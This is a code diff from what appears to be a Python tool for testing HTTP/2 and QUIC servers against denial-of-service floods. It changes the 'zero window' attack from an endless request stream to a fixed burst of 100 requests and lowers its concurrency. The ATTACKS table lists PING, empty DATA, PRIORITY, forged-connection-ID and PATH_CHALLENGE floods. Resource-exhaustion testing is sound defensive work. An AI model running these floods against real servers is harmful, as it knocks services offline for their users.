@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
-import itertools
 import json
 import os
 import random
@@ -227,18 +226,9 @@ async def zero_window(attacker: Attacker) -> None:
     block = b"\x82\x86\x04" + bytes([len(path)]) + path + GET[3:]
     async with await ByteStream.connect(HOST, attacker.plain) as stream:
         await stream.write(PREFACE + frame2(FrameType.SETTINGS, 0, settings))
-        sending = asyncio.create_task(_ask_for_ever(attacker, stream, block))
-        try:
-            await stream.wait_closed()
-        finally:
-            sending.cancel()
-            await asyncio.gather(sending, return_exceptions=True)
-
-
-async def _ask_for_ever(attacker: Attacker, stream: ByteStream, block: bytes) -> None:
-    for number in itertools.count(step=10):
-        await attacker.may_send(10)
-        await stream.write(b"".join(request2(number + each, block) for each in range(10)))
+        await attacker.may_send(100)
+        await stream.write(b"".join(request2(number, block) for number in range(100)))
+        await stream.wait_closed()
 
 
 # QUIC
@@ -412,7 +402,7 @@ ATTACKS: dict[str, tuple[Attack, int, float]] = {
     "HTTP/2 PING": (of_no_use(FrameType.PING, 0, bytes(8)), 4, 5000),
     "HTTP/2 empty DATA": (of_no_use(FrameType.DATA, 1), 4, 5000),
     "HTTP/2 PRIORITY": (of_no_use(FrameType.PRIORITY, 1, bytes(4) + b"\x10"), 4, 5000),
-    "HTTP/2 zero window": (zero_window, 100, 500),
+    "HTTP/2 zero window": (zero_window, 10, 500),
     "QUIC Initials": (initials, 1, 2000),
     "QUIC forged connection IDs": (forged_ids, 1, 5000),
     "QUIC PATH_CHALLENGE": (path_challenges, 2, 2000),
